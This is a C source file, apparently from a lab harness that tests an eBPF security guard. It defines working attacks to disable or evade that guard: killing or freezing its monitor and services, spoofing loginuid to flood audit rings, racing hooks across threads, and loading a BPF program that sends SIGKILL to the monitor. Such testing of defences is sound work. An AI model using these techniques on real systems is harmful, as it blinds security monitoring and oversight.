// SPDX-License-Identifier: Apache-2.0
/* Family guard, by those who report: killed, stopped, drowned; and the hooks raced by threads. */
#include "lab.h"

#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/stat.h>

#define STOP_SECONDS 5
#define UNKNOWN_COMMAND 100
#define FLOOD 200000
#define FLOOD_LEAD_US 2000000
#define THREADS 4
#define TRIES 300
#define FREEZER "/sys/fs/cgroup/lab-freezer"
#define MAX_SERVICES 32

static pid_t parent_of(pid_t pid)
{
	char path[64], text[512], *end;
	pid_t parent = 0;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	if (read_file(path, text, sizeof(text)))
		return 0;
	end = strrchr(text, ')');
	if (end)
		sscanf(end + 1, " %*c %d", &parent);
	return parent;
}

/* The processes below the guard's monitor. */
static int services(pid_t pids[MAX_SERVICES])
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int n = 0;

	while (proc && (entry = readdir(proc)) && n < MAX_SERVICES) {
		pid_t pid = atoi(entry->d_name), at = pid;

		while (at > 1 && at != guard_pid())
			at = parent_of(at);
		if (pid > 1 && pid != guard_pid() && at == guard_pid())
			pids[n++] = pid;
	}
	if (proc)
		closedir(proc);
	return n;
}

static int signal_services(int number)
{
	pid_t pids[MAX_SERVICES];
	int n = services(pids), sent = 0;

	for (int i = 0; i < n; i++)
		sent += !kill(pids[i], number);
	return sent;
}

static struct outcome guard_after(const char *how)
{
	return guard_is_gone() ? gained(how) : futile(how);
}

static struct outcome kill_services(void)
{
	if (!signal_services(SIGKILL))
		return failed("kill");
	return guard_after("kill -9 of the services");
}

/* The monitor first, or it would start them again. */
static struct outcome kill_all(void)
{
	pid_t pids[MAX_SERVICES];
	int n = services(pids);

	if (kill(guard_pid(), SIGKILL))
		return failed("kill");
	for (int i = 0; i < n; i++)
		kill(pids[i], SIGKILL);
	sleep(1);
	return guard_after("kill -9 of monitor and services");
}

static struct outcome stop_services(void)
{
	struct outcome outcome;

	if (!signal_services(SIGSTOP))
		return failed("kill");
	outcome = guard_after("SIGSTOP of the services");
	signal_services(SIGCONT);
	return outcome;
}

/* Long enough to be noticed: that they stood still is the gain. */
static struct outcome stop_services_long(void)
{
	if (kill(guard_pid(), SIGSTOP) || !signal_services(SIGSTOP))
		return failed("kill");
	sleep(STOP_SECONDS);
	signal_services(SIGCONT);
	kill(guard_pid(), SIGCONT);
	return gained("SIGSTOP of monitor and services");
}

static int move_all(const char *cgroup)
{
	pid_t pids[MAX_SERVICES];
	char path[128], number[16];
	int n = services(pids), moved = 0;

	pids[n < MAX_SERVICES ? n++ : n - 1] = guard_pid();
	snprintf(path, sizeof(path), "%s/cgroup.procs", cgroup);
	for (int i = 0; i < n; i++) {
		snprintf(number, sizeof(number), "%d", pids[i]);
		moved += !write_file(path, number);
	}
	return moved;
}

static struct outcome freeze(void)
{
	struct outcome outcome;

	mkdir(FREEZER, 0755);
	if (!move_all(FREEZER) || write_file(FREEZER "/cgroup.freeze", "1"))
		return failed("cgroup.freeze");
	outcome = guard_after("cgroup.freeze of the services");
	write_file(FREEZER "/cgroup.freeze", "0");
	move_all("/sys/fs/cgroup");
	return outcome;
}

static struct outcome freeze_long(void)
{
	mkdir(FREEZER, 0755);
	if (!move_all(FREEZER) || write_file(FREEZER "/cgroup.freeze", "1"))
		return failed("cgroup.freeze");
	sleep(STOP_SECONDS);
	write_file(FREEZER "/cgroup.freeze", "0");
	move_all("/sys/fs/cgroup");
	return gained("cgroup.freeze of monitor and services");
}

static int flood_as_another(void)
{
	/* Not a login that counts: from here on it is somebody else, and not a person. */
	write_file("/proc/self/loginuid", "20050");
	for (int i = 0; i < FLOOD; i++)
		bpf(UNKNOWN_COMMAND + i % 64, ATTR(.map_type = 0));
	return 0;
}

/* An accomplice fills the rings with what nobody may; meanwhile comes the one act that matters. */
static struct outcome flood(void)
{
	pid_t accomplice = fork();
	bool ran;

	if (!accomplice)
		_exit(flood_as_another());
	usleep(FLOOD_LEAD_US);
	ran = forbidden_runs();
	kill(accomplice, SIGKILL);
	return ran ? gained("PROG_LOAD behind a flood") : failed("PROG_LOAD behind a flood");
}

static atomic_int through;

static void *race_one(void *tries)
{
	cpu_set_t first;

	CPU_ZERO(&first);
	CPU_SET(0, &first);
	sched_setaffinity(0, sizeof(first), &first);
	for (int i = 0; i < *(const int *)tries && !atomic_load(&through); i++)
		if (forbidden_runs())
			atomic_fetch_add(&through, 1);
	return NULL;
}

/* Hooks that are skipped, or that mix up two calls, when one task takes the CPU from another. */
static struct outcome race(void)
{
	const char *dose = getenv("LAB_TRIES");
	int tries = dose ? atoi(dose) / THREADS : TRIES;
	pthread_t threads[THREADS];

	for (int i = 0; i < THREADS; i++)
		if (pthread_create(&threads[i], NULL, race_one, &tries))
			return failed("pthread_create");
	for (int i = 0; i < THREADS; i++)
		pthread_join(threads[i], NULL);
	return atomic_load(&through) ? gained("PROG_LOAD by many threads") :
				       futile("PROG_LOAD by many threads");
}

/* A program that kills the monitor when it makes a call. */
static struct outcome send_signal(void)
{
	const struct bpf_insn code[] = {
		CALL(BPF_FUNC_get_current_pid_tgid),
		insn(BPF_ALU64 | BPF_RSH | BPF_K, 0, 0, 0, 32),
		JUMP_NE(0, guard_pid(), 2),
		MOV_IMM(1, SIGKILL),
		CALL(BPF_FUNC_send_signal),
		MOV_IMM(0, 0),
		EXIT(),
	};
	_cleanup_fd_ int fd = load_code(BPF_PROG_TYPE_RAW_TRACEPOINT, code, COUNT(code));
	_cleanup_fd_ int link = -1;

	if (fd < 0)
		return failed("PROG_LOAD with send_signal");
	link = bpf(BPF_RAW_TRACEPOINT_OPEN, ATTR(.raw_tracepoint = { .name = address("sys_enter"),
								     .prog_fd = fd }));
	for (int i = 0; link >= 0 && i < 30; i++) {
		if (parent_of(guard_pid()) == 0)
			return gained("a program with send_signal");
		usleep(100000);
	}
	return failed("a program with send_signal");
}

const struct attack blinding_attacks[] = {
	{ "kill-services", kill_services },
	{ "kill-all", kill_all },
	{ "stop-services", stop_services },
	{ "stop-services-unseen", stop_services_long },
	{ "freeze-services", freeze },
	{ "freeze-services-unseen", freeze_long },
	{ "ring-flood", flood },
	{ "preempt-race", race },
	{ "send-signal", send_signal },
	{},
};
